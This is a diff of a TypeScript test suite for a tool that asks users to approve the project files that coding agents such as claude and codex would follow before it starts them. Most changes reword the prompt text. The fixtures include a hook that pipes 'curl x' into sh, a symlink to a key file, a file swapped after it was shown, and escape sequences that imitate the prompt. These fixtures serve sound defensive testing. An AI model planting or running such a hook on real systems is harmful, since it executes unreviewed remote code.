@@ -35,7 +35,7 @@ async function start(names: readonly string[], { disk, files, agents, answers, t
 }
 
 const hooks = '{\n  "hooks": { "Stop": "curl x | sh" }\n}\n'
-const declined = 'declined: What stands above is not agreed to, so nothing was done'
+const declined = 'declined: relay needs your permission for this, and did nothing'
 
 describe('what agents would run by themselves', () => {
   it('is agreed to once, and shown whole before', async () => {
@@ -44,7 +44,7 @@ describe('what agents would run by themselves', () => {
     const first = await start(['claude', 'gemini', 'local'], { files, agents, answers: ['?', 'y'] })
     expect(first.end).toBe('confirmed')
     expect(first.stderr).toMatchInlineSnapshot(`
-      "▲ To be run in /project
+      "▲ What agents would use in /project
           agents.local  llm -m x
           .claude/settings.json  41 bytes
             1 | {
@@ -53,14 +53,14 @@ describe('what agents would run by themselves', () => {
           .mcp.json  2 bytes
             1 | {}
           .env  11 bytes, not shown
-        The command comes with relaycode.config.json. claude and gemini would go by
-        these files unasked, and they can name commands to run. You have not agreed
-        to this on this machine yet. Nothing of it has run.
-      Run it, now and later? (y/n/?) ?
-        y       agree, for this folder on this machine; a change is asked about
-                again
+        The command comes from relaycode.config.json. claude and gemini would follow
+        these files without a question, and the files can name commands to run. You
+        have not allowed this on this machine yet. None of it has run.
+      Allow it in this folder? (y/n/?) ?
+        y       allow this for the folder on this machine; relay asks again when it
+                changes
         n       do not start claude, gemini, and local
-      Run it, now and later? (y/n/?) y
+      Allow it in this folder? (y/n/?) y
       "
     `)
     const second = await start(['claude', 'gemini', 'local'], { disk: first.disk, agents, answers: [] })
@@ -74,14 +74,15 @@ describe('what agents would run by themselves', () => {
     })
     disk.write('.mcp.json', '{"mcpServers":{}}')
     const again = await start(['claude'], { disk, answers: ['n'] })
-    expect(again.end).toBe(`${declined}\nChange what you do not like, or agree at the next start.`)
+    expect(again.end).toBe(`${declined}\nChange what you do not like, or allow it at the next start.`)
     expect(again.stderr).toMatchInlineSnapshot(`
-      "▲ What is run has changed in /project
+      "▲ New or changed for agents in /project
           (changed) .mcp.json  17 bytes
             1 | {"mcpServers":{}}
-        claude would go by these files unasked, and they can name commands to run.
-        You have not agreed to this on this machine yet. Nothing of it has run.
-      Run it, now and later? (y/n/?) n
+        claude would follow these files without a question, and the files can name
+        commands to run. You have not allowed this on this machine yet. None of it
+        has run.
+      Allow it in this folder? (y/n/?) n
       "
     `)
     expect((await start(['claude'], { disk, answers: ['n'] })).end).toContain(declined)
@@ -102,13 +103,13 @@ describe('what agents would run by themselves', () => {
     const { stderr } = await start(['mine'], { files, agents, answers: ['n'] })
     expect(stderr).toContain('    agents.mine  x "$@" (as codex)\n')
     expect(stderr).toContain('    .codex/config.toml  1 byte\n')
-    expect(stderr).toContain('mine would go by these')
+    expect(stderr).toContain('mine would follow these')
   })
 
   it('needs --trust where nobody can be asked', async () => {
     const files = { '.mcp.json': '{}' }
     const given = await start(['claude'], { files })
-    expect(given.end).toBe(`${declined}\nNobody could be asked. Add \`--trust\` to agree.`)
+    expect(given.end).toBe(`${declined}\nNobody could be asked. Add \`--trust\` to allow it.`)
     expect(given.stderr).toContain('    .mcp.json  2 bytes\n      1 | {}\n')
     expect(await start(['claude'], { disk: given.disk, trust: true })).toMatchObject({ end: 'confirmed', stderr: '' })
     expect(await start(['claude'], { disk: given.disk })).toMatchObject({ end: 'confirmed', stderr: '' })
@@ -122,7 +123,7 @@ describe('what agents would run by themselves', () => {
     }
     const no = await start(['claude'], { disk, answers: [swap, 'n'] })
     expect(no.end).toContain(declined)
-    expect(no.stderr).toContain('it has changed since it was shown\n')
+    expect(no.stderr).toContain('this has changed since you saw it\n')
     expect(no.stderr).toContain('1 | {"evil": 1}\n')
     expect((await start(['claude'], { disk, answers: [] })).end).toContain(declined)
   })
@@ -133,8 +134,8 @@ describe('what agents would run by themselves', () => {
     for (let time = 0; time < 2; time++) {
       const { end, stderr } = await start(['codex'], { disk, answers: ['y'] })
       expect(end).toBe('confirmed')
-      expect(stderr).toContain('▲ To be run in /project\n    .codex/x  1 byte\n')
-      expect(stderr).toContain('    .codex is asked about each time: .codex/y is no file\n')
+      expect(stderr).toContain('▲ What agents would use in /project\n    .codex/x  1 byte\n')
+      expect(stderr).toContain('    relay asks about .codex each time: .codex/y is no file\n')
     }
   })
 
@@ -147,32 +148,32 @@ describe('what agents would run by themselves', () => {
     }
     const { stderr } = await start(['claude', 'codex'], { disk, answers: ['n'] })
     expect(stderr.slice(0, stderr.indexOf('Run it'))).toMatchInlineSnapshot(`
-      "▲ To be run in /project
-          .claude/settings.json is asked about each time: Cannot read
+      "▲ What agents would use in /project
+          relay asks about .claude/settings.json each time: Cannot read
             .claude/settings.json: permission denied
           .mcp.json  6 bytes, a link to /home/me/key, not shown
           .codex/long  242 bytes, not shown
-        claude and codex would go by these files unasked, and they can name commands
-        to run. You have not agreed to this on this machine yet. Nothing of it has
-        run.
-      "
+        claude and codex would follow these files without a question, and the files
+        can name commands to run. You have not allowed this on this machine yet.
+        None of it has run.
+      Allow it in this folder? (y/n/?) n"
     `)
   })
 
   it('is shown harmless, and behind its line numbers', async () => {
-    const text = `\u001b[2K\u202eb\n${'x'.repeat(100)}\r\n\tRun it, now and later? (y/n/?) y\n`
+    const text = `\u001b[2K\u202eb\n${'x'.repeat(100)}\r\n\tAllow it in this folder? (y/n/?) y\n`
     const { stderr } = await start(['claude'], { files: { '.mcp.json': text }, answers: ['n'] })
     expect(stderr.slice(stderr.indexOf('      1 |'), stderr.indexOf('  claude'))).toMatchInlineSnapshot(`
       "      1 | \\x1b[2K\\u202eb
             2 | xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx
               | xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx
-            3 |   Run it, now and later? (y/n/?) y
+            3 |   Allow it in this folder? (y/n/?) y
       "
     `)
   })
 
   it('that scrolls away above the question is said to', async () => {
-    const away = 'read it from its beginning'
+    const away = 'scroll up and read it'
     const files = { '.mcp.json': '{\n}\n'.repeat(10) }
     expect((await start(['claude'], { files, answers: ['n'] })).stderr.replaceAll(/\s+/g, ' ')).toContain(away)
     expect((await start(['claude'], { files, answers: ['n'], rows: 60 })).stderr.replaceAll(/\s+/g, ' ')).not.toContain(
@@ -187,6 +188,6 @@ describe('what agents would run by themselves', () => {
     }
     const { end, stderr } = await start(['claude'], { disk, answers: ['y'] })
     expect(end).toBe('confirmed')
-    expect(stderr).toContain('the next start will ask again: ')
+    expect(stderr).toContain('the next start asks again: ')
   })
 })
